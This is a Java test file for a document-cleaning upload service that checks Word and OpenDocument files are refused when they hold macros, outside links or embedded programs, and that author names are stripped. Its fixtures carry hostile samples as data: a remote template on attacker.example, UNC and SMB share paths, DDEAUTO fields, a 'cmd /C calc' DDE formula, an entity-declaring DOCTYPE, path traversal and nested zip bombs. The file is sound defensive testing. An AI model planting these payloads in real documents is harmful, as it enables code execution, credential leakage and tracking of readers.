package se.saferreturn.document;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static se.saferreturn.document.OfficeFiles.document;
import static se.saferreturn.document.OfficeFiles.openContent;
import static se.saferreturn.document.OfficeFiles.openText;
import static se.saferreturn.document.OfficeFiles.relationship;
import static se.saferreturn.document.OfficeFiles.relationships;
import static se.saferreturn.document.OfficeFiles.word;
import static se.saferreturn.document.Uploads.add;
import static se.saferreturn.document.Uploads.assertRefused;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import se.saferreturn.filecleaning.DocumentType;

/** Word and OpenDocument files that do more than to be read, and those of people that only look so. */
class OfficeFileTest {

    private static final String OUT = "TargetMode=\"External\"";
    private static final byte[] OLD_OFFICE = {
        (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1, 0, 0, 0, 0
    };

    @ParameterizedTest
    @CsvSource({
        "image, https://tracker.example/pixel.png",
        "oleObject, mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html",
        "frame, http://attacker.example/frame.html",
        "subDocument, file:///C:/Users/provova/del.docx",
        "hyperlink, file:///C:/Users/provova/lista.xlsx",
        "hyperlink, \\\\attacker.example\\share\\x",
        "hyperlink, javascript:alert(1)",
        "hyperlink, https:x",
        "externalLinkPath, tabell.xlsx",
        "package, \\\\attacker.example\\share\\tabell.xlsx"
    })
    void nothingIsTakenFromElsewhereButPlainLinks(String kind, String target) {
        assertRefused(
                word().with("word/_rels/document.xml.rels", relationships(relationship(kind, target, OUT)))
                        .bytes(),
                "from elsewhere");
    }

    @Test
    void whatIsElsewhereIsSeenHoweverItIsWritten() {
        String template = relationship("attached&#84;emplate", "https://attacker.example/x.dotm", OUT);
        String blanks = "<?xml version=\"1.0\"?>" + " ".repeat(1_100_000);
        String image = relationships(relationship("image", "https://tracker.example/x.png", OUT));

        assertRefused(
                word().with("word/_rels/settings.xml.rels", relationships(template))
                        .bytes(),
                "template");
        assertRefused(
                word().with("word/_rels/inst.xml.rels", relationships(template)).bytes(), "template");
        assertRefused(
                word().with(
                                "word/_rels/settings.xml.rels",
                                blanks + relationships(template).replaceFirst("<\\?.*?\\?>", ""))
                        .bytes(),
                "template");
        for (byte[] inUtf16 : new byte[][] {
            image.replace("UTF-8", "UTF-16").getBytes(UTF_16),
            image.replace(" encoding=\"UTF-8\"", "").getBytes(UTF_16LE)
        }) {
            assertRefused(word().with("word/_rels/document.xml.rels", inUtf16).bytes(), "from elsewhere");
        }
        assertRefused(
                word().with(
                                "word/_rels/document.xml.rels",
                                image.replace("<Relationships", "<!DOCTYPE x [<!ENTITY e 'External'>]><Relationships"))
                        .bytes(),
                "cannot be checked");
        assertRefused(
                word().with("word/document.xml", document("<v:imagedata src=\"http://tracker.example/x.png\"/>"))
                        .bytes(),
                "from elsewhere");
        assertRefused(
                word().with(
                                "word/document.xml",
                                document(
                                        "<w:instrText> D</w:instrText><w:instrText>DEAUTO c:\\\\x \"y\"</w:instrText>"))
                        .bytes(),
                "from elsewhere");
        assertRefused(
                word().with(
                                "word/document.xml",
                                document("<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://x.example&quot;\"/>"))
                        .bytes(),
                "from elsewhere");
    }

    @Test
    void onlyKnownKindsOfPartsAreTaken() {
        assertRefused(
                OfficeFiles.wordWithType("word/page.html", "text/html")
                        .with("word/page.html", "<html/>")
                        .bytes(),
                "kind that is not taken");
        assertRefused(
                OfficeFiles.wordWithType("word/x.bin", "application/vnd.ms-office.vbaProject")
                        .with("word/x.bin", "x")
                        .bytes(),
                "macros");
        assertRefused(
                OfficeFiles.wordWithType("word/x.xml", "application/vnd.ms-office.webextension+xml")
                        .with("word/x.xml", "<x/>")
                        .bytes(),
                "macros or embedded programs");
    }

    @ParameterizedTest
    @ValueSource(strings = {"word/media/image1.emf", "customXml/item1.xml", "word/embeddings/bild.png"})
    void filesOfOldOfficeProgramsAreSeenInAnyPart(String part) {
        assertRefused(word().with(part, OLD_OFFICE).bytes(), "embedded programs");
        assertRefused(
                openText()
                        .with("Pictures/1.png", OLD_OFFICE)
                        .with("Object 1", OLD_OFFICE)
                        .bytes(),
                "embedded programs");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/vbaProject.bin",
                "custom/other/vbaData.xml",
                "word/activeX/activeX1.xml",
                "xl/macrosheets/sheet1.xml"
            })
    void programsAreSeenByTheNamesOfParts(String part) {
        assertRefused(word().with(part, "<x/>").bytes(), "macros or embedded programs");
    }

    @Test
    void aSecondFileBehindTheFirstIsRefused() {
        byte[] harmless = word().bytes();
        byte[] macros = word().with("word/vbaProject.bin", "x").bytes();

        assertRefused(RawZip.behind(harmless, macros), "do not belong to it");
        assertRefused(RawZip.behind(OfficeFiles.plainZip().bytes(), harmless), "do not belong to it");
        assertRefused(join(harmless, "behind".getBytes(UTF_8)), "do not belong to it");
        assertRefused(RawZip.behind("PK\3\4 in front".getBytes(UTF_8), harmless), "do not belong to it");
        assertRefused(Arrays.copyOf(harmless, harmless.length - 40), "do not belong to it");
    }

    @Test
    void theSamePartTwiceIsRefused() {
        assertRefused(word().with("Word/Document.xml", document("")).bytes(), "there twice");
        assertRefused(word().with("word\\document.xml", document("")).bytes(), "there twice");
        assertRefused(word().with("../outside.xml", document("")).bytes(), "do not belong to it");
    }

    @Test
    void whatRunsOrFetchesInOpenDocumentIsRefused() {
        assertRefused(openText().with("Basic/Standard/Module1.xml", "<x/>").bytes(), "macros");
        assertRefused(openText().with("Object 1/Scripts/python/x.py", "x").bytes(), "macros");
        for (String runs : new String[] {
            "<script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:x\"/>",
            "<draw:object-ole xlink:href=\"./Object 1\"/>",
            "<draw:plugin xlink:href=\"x\"/>",
            "<text:a xlink:href=\"vnd.sun.star.script:Standard.M.x\">x</text:a>",
            "<text:script>Sub Main</text:script>"
        }) {
            assertRefused(openText().with("content.xml", openContent(runs)).bytes(), "macros or embedded programs");
        }
        for (String fetches : new String[] {
            "<draw:image xlink:href=\"https://tracker.example/x.png\"/>",
            "<draw:image xlink:href=\"//attacker.example/share/x.png\"/>",
            "<draw:image xlink:href=\"%2e%2e/x.png\"/>",
            "<draw:object xlink:href=\"file:///home/provova/x.odt\"/>",
            "<text:section-source xlink:href=\"../del.odt\"/>",
            "<text:a xlink:href=\"smb://attacker.example/x\">x</text:a>",
            "<office:dde-source office:dde-application=\"soffice\"/>",
            "<draw:floating-frame xlink:href=\"Object 1\"/>",
            "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;http://x.example&quot;)\"/>"
        }) {
            assertRefused(openText().with("content.xml", openContent(fetches)).bytes(), "from elsewhere");
        }
    }

    @Test
    void aFileWithAPasswordIsRefusedAsSuch() {
        String encrypted =
                "<manifest:file-entry manifest:full-path=\"content.xml\"><manifest:encryption-data/></manifest:file-entry>";
        assertRefused(
                openText()
                        .with("content.xml", new byte[] {3, 1, 4, 1, 5, 9, 2, 6})
                        .with("META-INF/manifest.xml", OfficeFiles.manifest(encrypted))
                        .bytes(),
                "protected by a password",
                "without the password");
        assertRefused(openText().with("encrypted-package", new byte[] {3, 1, 4}).bytes(), "protected by a password");
        assertRefused(join(OLD_OFFICE, "EncryptedPackage".getBytes(UTF_16LE)), "protected by a password");
        assertRefused(join(OLD_OFFICE, "WordDocument".getBytes(UTF_16LE)), "old Office programs");
        byte[] encryptedZip = word().bytes();
        int directory = directoryOf(encryptedZip);
        encryptedZip[directory + 8] |= 1;
        assertRefused(encryptedZip, "protected by a password");
    }

    @Test
    void chartsFormulasAndLinksOfPeopleAreTaken() throws Exception {
        byte[] withChart = word().with(
                        "word/embeddings/Microsoft_Excel_Sheet1.xlsx",
                        OfficeFiles.table().bytes())
                .with(
                        "word/charts/chart1.xml",
                        "<c:chart xmlns:c=\"c\" xmlns:r=\"r\"><c:externalData r:id=\"rId1\"/></c:chart>")
                .with(
                        "word/charts/_rels/chart1.xml.rels",
                        relationships(relationship("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", "")))
                .with(
                        "word/_rels/document.xml.rels",
                        relationships(
                                relationship("hyperlink", "https://www.example.org/a?b=c", OUT),
                                relationship("hyperlink", "mailto:provova@example.org", OUT)))
                .bytes();
        assertThat(add(withChart).type()).isEqualTo(DocumentType.DOCX);
        assertThat(partsOf(add(withChart).content()))
                .containsKeys("word/embeddings/Microsoft_Excel_Sheet1.xlsx", "word/charts/chart1.xml");

        byte[] withFormula = openText()
                .with(
                        "content.xml",
                        openContent(
                                "<draw:object xlink:href=\"./Object 1\"/><text:a xlink:href=\"https://example.org\"/>"))
                .with("Object 1/content.xml", "<math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mi>x</mi></math>")
                .with("Object 1/settings.xml", "<x/>")
                .with("ObjectReplacements/Object 1", new byte[] {1, 2, 3})
                .with("Configurations2/accelerator/current.xml", "")
                .bytes();
        assertThat(add(withFormula).type()).isEqualTo(DocumentType.ODT);
        assertThat(partsOf(add(withFormula).content())).containsKey("Object 1/content.xml");
    }

    @Test
    void theTableBehindAChartIsLookedAtInTheSameWay() {
        assertEmbeddedRefused(OfficeFiles.table().with("xl/vbaProject.bin", "x"), "macros");
        assertEmbeddedRefused(
                OfficeFiles.table()
                        .with(
                                "xl/worksheets/_rels/sheet1.xml.rels",
                                relationships(relationship("image", "http://tracker.example/x", OUT))),
                "from elsewhere");
        assertEmbeddedRefused(
                OfficeFiles.table()
                        .with(
                                "xl/externalLinks/externalLink1.xml",
                                "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"),
                "from elsewhere");
        assertEmbeddedRefused(
                OfficeFiles.table().with("xl/worksheets/sheet1.xml", OfficeFiles.sheet("cmd|'/C calc'!A0")),
                "from elsewhere");
        assertEmbeddedRefused(OfficeFiles.plainZip(), "embedded programs");
        OfficeFiles deep = OfficeFiles.table();
        for (int depth = 0; depth < 4; depth++) {
            deep = OfficeFiles.table().with("xl/embeddings/x.xlsx", deep.bytes());
        }
        assertEmbeddedRefused(deep, "unpacks to far more");
    }

    @Test
    void storedPartsWithTheirSizesBehindThemAreTaken() {
        assertThat(add(openText().storedWithSizesBehind()).type()).isEqualTo(DocumentType.ODT);
        assertThat(add(word().storedWithSizesBehind()).type()).isEqualTo(DocumentType.DOCX);
    }

    @Test
    void namesOfPeopleFoldersAndPrintersAreGone() throws Exception {
        byte[] word = word().with(
                        "docProps/core.xml",
                        "<cp:coreProperties xmlns:cp=\"c\" xmlns:dc=\"d\"><dc:creator>Anna Handläggarsson</dc:creator>"
                                + "</cp:coreProperties>")
                .with(
                        "docProps/app.xml",
                        "<Properties><Template>C:\\Users\\handlaggarsson\\brev.dotx</Template></Properties>")
                .with("docProps/thumbnail.jpeg", Photographs.jpegWithPosition())
                .with(
                        "_rels/.rels",
                        relationships(
                                relationship("officeDocument", "word/document.xml", ""),
                                relationship("metadata/thumbnail", "docProps/thumbnail.jpeg", "")))
                .with(
                        "word/document.xml",
                        document(
                                "<w:ins w:id=\"1\" w:author=\"Anna Handläggarsson\"><w:r><w:t>Hej &amp; välkommen</w:t></w:r></w:ins>"
                                        + "<w:docPr descr=\"C:\\Users\\handlaggarsson\\bild.jpg\"/>"))
                .with("word/media/image1.jpeg", Photographs.jpegWithPosition())
                .bytes();
        Map<String, byte[]> kept = partsOf(add(word).content());
        assertThat(kept).doesNotContainKey("docProps/thumbnail.jpeg");
        assertThat(allOf(kept))
                .doesNotContainIgnoringCase("handl")
                .doesNotContain("GPSLatitude", "Provphone", "thumbnail");
        assertThat(new String(kept.get("word/document.xml"), UTF_8))
                .contains("Hej &amp; välkommen", "bild.jpg", "w:author=");

        byte[] open = openText()
                .with(
                        "meta.xml",
                        "<office:document-meta xmlns:office=\"o\"><x>Anna Handläggarsson</x></office:document-meta>")
                .with(
                        "content.xml",
                        openContent(
                                "<office:annotation><dc:creator>Anna Handläggarsson</dc:creator></office:annotation>"))
                .with(
                        "settings.xml",
                        "<s><config-item config:name=\"PrinterName\" xmlns:config=\"c\">Handläggarssons skrivare</config-item></s>")
                .with("Thumbnails/thumbnail.png", Photographs.pngWithPosition())
                .with("Pictures/1.png", Photographs.pngWithPosition())
                .with(
                        "META-INF/manifest.xml",
                        OfficeFiles.manifest("<manifest:file-entry manifest:full-path=\"Thumbnails/thumbnail.png\"/>"))
                .bytes();
        Map<String, byte[]> keptOpen = partsOf(add(open).content());
        assertThat(keptOpen).doesNotContainKey("Thumbnails/thumbnail.png").containsKey("Pictures/1.png");
        assertThat(allOf(keptOpen)).doesNotContain("Handl").doesNotContain("Provova Agare", "thumbnail");
        assertThat(keptOpen.keySet().iterator().next()).isEqualTo("mimetype");
    }

    @Test
    void formulasThatFillTheTimeOfTheCheckAreRefused() {
        assertEmbeddedRefused(
                OfficeFiles.table()
                        .with("xl/worksheets/sheet1.xml", OfficeFiles.sheet("A1&amp;" + "|'".repeat(500_000))),
                "from elsewhere");
    }

    @Test
    void aSignedFileIsRefusedSinceItsSignatureWouldBreak() {
        assertRefused(openText().with("META-INF/documentsignatures.xml", "<x/>").bytes(), "electronic signature");
        assertRefused(word().with("_xmlsignatures/sig1.xml", "<x/>").bytes(), "electronic signature");
    }

    @Test
    void tablesAndSlidesAreRefusedWithTheCure() {
        assertRefused(OfficeFiles.table().bytes(), "Spreadsheets", "PDF");
        assertRefused(
                OfficeFiles.openDocument("application/vnd.oasis.opendocument.presentation")
                        .bytes(),
                "Spreadsheets");
    }

    private static void assertEmbeddedRefused(OfficeFiles table, String words) {
        assertRefused(word().with("word/embeddings/tabell.xlsx", table.bytes()).bytes(), words);
    }

    private static Map<String, byte[]> partsOf(byte[] zip) throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream read = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry part = read.getNextEntry(); part != null; part = read.getNextEntry()) {
                parts.put(part.getName(), read.readAllBytes());
            }
        }
        return parts;
    }

    private static String allOf(Map<String, byte[]> parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        parts.forEach((name, content) -> {
            all.writeBytes(name.getBytes(UTF_8));
            all.writeBytes(content);
        });
        return all.toString(UTF_8);
    }

    private static int directoryOf(byte[] zip) {
        int end = zip.length - 22;
        return ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN).getInt(end + 16);
    }

    private static byte[] join(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
